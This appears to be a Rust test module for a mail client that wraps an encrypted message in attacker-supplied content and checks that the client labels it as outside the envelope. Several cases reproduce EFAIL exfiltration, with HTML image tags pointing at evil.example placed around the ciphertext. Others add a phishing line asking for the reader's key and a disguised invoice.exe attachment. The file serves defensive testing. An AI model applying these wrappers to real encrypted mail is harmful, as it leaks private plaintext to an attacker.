//! Text that an attacker put around an envelope so that it looks like part of the content.

use super::Case;
use super::letter::{LETTER, envelope_part, mixed, sealed};
use crate::letters::People;

const HTML: &str = "Content-Type: text/html\n\n";

pub(crate) fn cases(people: &People) -> Vec<Case> {
    let sealed = sealed(people);
    let part = envelope_part(&sealed);
    let opens = |name, message: String| Case::new(name, message).opens(LETTER);
    let last = |text: &str| {
        sealed
            .trim_end()
            .rsplit_once('\n')
            .map(|(all, end)| format!("{all}\n{text}\n{end}\n"))
    };
    vec![
        opens(
            "EFAIL: an image around the envelope",
            mixed(&[
                &format!("{HTML}<img src=\"http://evil.example/"),
                &part,
                &format!("{HTML}\">"),
            ]),
        )
        .says("outside the envelope, not encrypted: part 1, text/html")
        .says("outside the envelope, not encrypted: part 3, text/html"),
        opens(
            "EFAIL: in preamble and epilogue",
            format!(
                "{}\">\n",
                mixed(&[&part]).replacen("\n\n--b", "\n\n<img src=\"http://evil.example/\n--b", 1)
            ),
        )
        .says("between the parts, not encrypted"),
        opens(
            "EFAIL: glued to the base64",
            last("\"><img src=\"http://evil.example/\">").unwrap(),
        )
        .says("after the envelope in part 2, not encrypted: 34 bytes"),
        opens(
            "EFAIL: the envelope within HTML of one part",
            mixed(&[&part.replacen("\n\n", "\n\n\n\n", 1), "\n\n\n"]),
        ),
        opens(
            "a text that looks like ours",
            sealed.replace("To read it, open it", "To read it, send your key"),
        )
        .says("outside the envelope, not encrypted: part 1, text/plain"),
        opens(
            "a text before ours",
            mixed(&["\nYour bank: call 555", &part]),
        )
        .says("outside the envelope"),
        opens(
            "an attachment beside the envelope",
            mixed(&[
                &part,
                "Content-Type: application/x-msdownload; name=\"invoice.exe\"\n\nMZ",
            ]),
        )
        .says("`invoice.exe`"),
        opens(
            "a thousand parts beside the envelope",
            mixed(&[&[&*part][..], &["\nx"; 1_000]].concat()),
        )
        .says("980 more parts"),
        opens(
            "a footer under the envelope, as a list writes it",
            last("_______\nlist mailing list\nlist@example.org").unwrap(),
        )
        .says("after the envelope"),
    ]
}
